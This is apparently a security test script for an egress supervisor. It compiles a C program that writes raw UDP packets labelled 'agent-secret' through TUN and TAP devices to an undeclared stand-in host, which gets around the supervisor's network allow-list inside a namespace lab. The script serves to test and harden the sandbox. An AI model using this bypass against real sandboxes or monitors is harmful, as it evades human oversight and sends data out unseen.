#!/bin/bash
# ha38-tun.sh (hostile review h-attack38): a TUN descriptor on stdin. The
# stdio check looks at sockets on 0-2 (and, for a root agent, at files and
# devices); a uid-1000 agent's character devices are not looked at. A TUN
# descriptor is a link into the host's stack: every write() is an IP packet
# received on that interface, routed (forwarded, where the host forwards:
# a router, a Docker host) to whatever destination the packet names. No
# call is trapped. Host, as root, from the worktree after `make`. Topology:
# review-net.sh (five namespaces ha38ta, ...); in ha38ta the caller makes
# t0 (10.38.0.1/24) and forwarding is on; the agent writes a UDP packet
# from 10.38.0.2 to 203.0.113.66:9999, the undeclared host ha38tx on a1's
# link. Mode attach: the agent opens /dev/net/tun itself and attaches to
# t1, a persistent TUN device owned by uid 1000 (no capability needed).
# Mode tap: the same with t2, a TAP device of uid 1000's on a bridge whose
# other port leads to ha38tx (10.38.2.66): no forwarding involved.
#
# Supervisor: --no-loopback --allow 198.51.100.7:9999, as uid 1000 (as root
# with REVIEW_AS_ROOT=1: the root check refuses the device, the control).
#   ha38-tun.sh [SUPERVISOR]  (default build/egress-supervisor; ROUNDS=N)
set -uo pipefail
cd "$(dirname "$0")/../.." || exit 2
. tests/review/review-cc.sh
. tests/review/review-net.sh
mkdir -p /tmp/ha38 && chmod 777 /tmp/ha38
# The agent: python is enough (the supervisor runs any program); a static
# one keeps the run free of the interpreter's own calls.
cat >/tmp/ha38/tunwrite.c <<'C'
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if.h>
#include <linux/if_tun.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>
/* tunwrite DEST MSG [IFNAME [TUNPATH [tap]]]: writes one IPv4/UDP packet 10.38.0.2:4242 ->
 * DEST:9999 holding MSG to descriptor 0 (a TUN device without packet
 * information), or, with IFNAME, to a descriptor of its own attached to
 * that persistent TUN device (TUNSETIFF: no capability when the device's
 * owner is the caller's uid). With "tap" the device is a TAP one and the
 * packet goes in a broadcast Ethernet frame. */
static unsigned short csum(const void *p, size_t n)
{
	const unsigned char *b = p;
	unsigned long s = 0;
	for (size_t i = 0; i + 1 < n; i += 2)
		s += (unsigned)(b[i] << 8 | b[i + 1]);
	if (n & 1)
		s += (unsigned)b[n - 1] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return htons((unsigned short)~s);
}
int main(int argc, char **argv)
{
	const char *msg = argc > 2 ? argv[2] : "agent-secret via a TUN on stdin";
	int tap = argc > 5 && !strcmp(argv[5], "tap");
	unsigned char frame[1514] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x02, 0, 0, 0, 0x38, 0x02, 0x08, 0};
	unsigned char *pkt = frame + 14;
	struct iphdr *ip = (struct iphdr *)pkt;
	struct udphdr *u = (struct udphdr *)(pkt + 20);
	size_t n = strlen(msg);
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = 17;
	ip->tot_len = htons((unsigned short)(28 + n));
	inet_pton(AF_INET, tap ? "10.38.2.2" : "10.38.0.2", &ip->saddr);
	inet_pton(AF_INET, argc > 1 ? argv[1] : "203.0.113.66", &ip->daddr);
	ip->check = csum(ip, 20);
	u->source = htons(4242);
	u->dest = htons(9999);
	u->len = htons((unsigned short)(8 + n));
	memcpy(pkt + 28, msg, n);
	int fd = 0;
	if (argc > 3) {
		struct ifreq ifr = {.ifr_flags = (tap ? IFF_TAP : IFF_TUN) | IFF_NO_PI};
		strncpy(ifr.ifr_name, argv[3], IFNAMSIZ - 1);
		fd = open(argc > 4 ? argv[4] : "/dev/net/tun", O_RDWR);
		int rc = fd < 0 ? -1 : ioctl(fd, TUNSETIFF, &ifr);
		printf("ha38-tun: open /dev/net/tun -> %d, TUNSETIFF %s -> %d%s%s\n", fd, argv[3], rc,
		       rc < 0 ? " " : "", rc < 0 ? strerror(errno) : "");
		if (rc < 0)
			return 1;
		/* An attached TAP has carrier; the bridge learns it through
		 * linkwatch, up to a second later, and drops frames before. */
		if (tap)
			sleep(2);
	}
	ssize_t w = tap ? write(fd, frame, 14 + 28 + n) : write(fd, pkt, 28 + n);
	printf("ha38-tun: write(%d, %zu-byte %s to %s:9999) -> %zd\n", fd, 28 + n + (tap ? 14 : 0),
	       tap ? "frame" : "packet",
	       argc > 1 ? argv[1] : "203.0.113.66", w);
	fflush(stdout);
	return w < 0;
}
C
review_cc /tmp/ha38/tunwrite /tmp/ha38/tunwrite.c || exit 2
d=$(review_stage ha38-tun "${1:-build/egress-supervisor}" /tmp/ha38/tunwrite)
review_net_up ha38t
review_net_sinks ha38t "$d"
ip netns exec ha38ta sysctl -qw net.ipv4.ip_forward=1
# The caller: opens /dev/net/tun as t0, configures it, puts it on 0 and
# runs the supervisor (argv after the script).
cat >"$d/caller.py" <<'PY'
import fcntl, os, struct, subprocess, sys
fd = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(fd, 0x400454ca, struct.pack("16sH", b"t0", 0x0001 | 0x1000))  # TUNSETIFF IFF_TUN|IFF_NO_PI
subprocess.run(["ip", "addr", "add", "10.38.0.1/24", "dev", "t0"], check=True)
subprocess.run(["ip", "link", "set", "t0", "up"], check=True)
os.dup2(fd, 0)
os.close(fd)
os.execvp(sys.argv[1], sys.argv[1:])
PY
# The caller is root (TUNSETIFF needs CAP_NET_ADMIN); it runs the
# supervisor as uid 1000 unless REVIEW_AS_ROOT=1.
as=(setpriv --reuid 1000 --regid 1000 --clear-groups)
[ "${REVIEW_AS_ROOT:-0}" = 1 ] && as=()
# A persistent TUN device of uid 1000's own (as `ip tuntap add ... user
# 1000` leaves one for a VPN client or a QEMU of the user's), which the
# agent attaches itself: no descriptor of the caller's needed.
ip -n ha38ta tuntap add dev t1 mode tun user 1000
ip -n ha38ta addr add 10.38.1.1/24 dev t1
ip -n ha38ta link set t1 up
# systemd's udev rules make /dev/net/tun mode 0666 (50-udev-default.rules:
# KERNEL=="tun", MODE="0666"); this host has no udev and keeps 0600, so
# the agent opens a node of the same device made so.
rm -f /tmp/ha38/net-tun
mknod -m 0666 /tmp/ha38/net-tun c 10 200
# Mode tap: a persistent TAP device of uid 1000's enslaved to a bridge (as
# QEMU's bridge networking leaves one), the bridge's other port a veth to
# ha38tx (10.38.2.66/24); forwarding off: the frame needs no routing.
ip -n ha38ta tuntap add dev t2 mode tap user 1000
ip -n ha38ta link add tb type bridge
ip -n ha38ta link set t2 master tb
ip link add tv netns ha38ta type veth peer name xv netns ha38tx
ip -n ha38ta link set tv master tb
ip -n ha38tx addr add 10.38.2.66/24 dev xv
for l in "ha38ta t2" "ha38ta tb" "ha38ta tv" "ha38tx xv"; do
	read -r ns dev <<<"$l"
	ip -n "$ns" link set "$dev" up
done
sleep 1
for r in $(seq "${ROUNDS:-1}"); do
	ip netns exec ha38ta sysctl -qw net.ipv4.ip_forward=0
	review_net_run ha38t "$d" "tap.$r" -- "$d/sv" --allow 198.51.100.7:9999 -- \
		"$d/agent" 10.38.2.66 "agent-secret via its own TAP on a bridge, round $r" t2 \
		/tmp/ha38/net-tun tap
	ip netns exec ha38ta sysctl -qw net.ipv4.ip_forward=1
	review_net_run ha38t "$d" "attach.$r" -- "$d/sv" --allow 198.51.100.7:9999 -- \
		"$d/agent" 203.0.113.66 "agent-secret via its own attach to t1, round $r" t1 /tmp/ha38/net-tun
	REVIEW_AS_ROOT=1 review_net_run ha38t "$d" "tun.$r" -- /usr/bin/python3 "$d/caller.py" \
		"${as[@]}" "$d/sv" --allow 198.51.100.7:9999 -- "$d/agent" 203.0.113.66 \
		"agent-secret via a TUN on stdin, round $r"
done
sleep 0.5
echo "--- sinks:"
sed 's/^/  /' "$d/sinks.log"
